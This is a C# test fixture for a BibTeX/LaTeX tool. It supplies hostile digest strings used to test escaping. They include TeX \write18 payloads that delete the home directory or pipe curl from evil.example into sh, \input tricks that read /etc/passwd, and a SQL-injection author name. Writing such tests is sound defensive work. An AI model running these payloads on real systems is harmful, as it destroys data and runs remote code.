using System.Collections.Generic;

namespace PaperTools.Tests.BibTeX;

/// <summary>Digest text written to break a .bib file or run commands in LaTeX.</summary>
public static class HostilePapers
{
    public static readonly string[] Texts =
    {
        "Closing } brace",
        "}}}, @misc{evil, title = {Injected}",
        "Unbalanced {{{ braces",
        "Unbalanced }}} braces",
        "\\input{/etc/passwd}",
        "\\write18{rm -rf ~}",
        "\\immediate\\write18{curl evil.example | sh}",
        "$\\input{/etc/passwd}$ and $^^5cinput{/etc/passwd}$",
        "Percent at line end %\n@misc{evil2, title={x}}",
        "NUL \0 and BEL \u0007 and ESC \u001B[31m and DEL \u007F",
        "\\",
        "\\end{thebibliography}\\begin{document}",
        "\\def\\x{\\input{/etc/passwd}}\\x",
        "\\catcode`\\^^M=13 \\csname input\\endcsname",
        "@comment{ @preamble{\"\\input{/etc/passwd}\"} }",
        "quote \" in \"quoted\" text #1 & 100% _under_ ~tilde^caret",
    };

    public static IEnumerable<Paper> All()
    {
        for (var i = 0; i < Texts.Length; i++)
        {
            yield return new Paper
            {
                Title = "Hostile " + (char)('A' + i) + ": " + Texts[i],
                Abstract = Texts[i] + " " + Texts[(i + 1) % Texts.Length],
                Keywords = new[] { Texts[i] },
                Authors = i % 2 == 0 ? new string[0] : new[] { "Robert'); DROP TABLE Students;-- Tables", Texts[i] },
            };
        }
    }
}
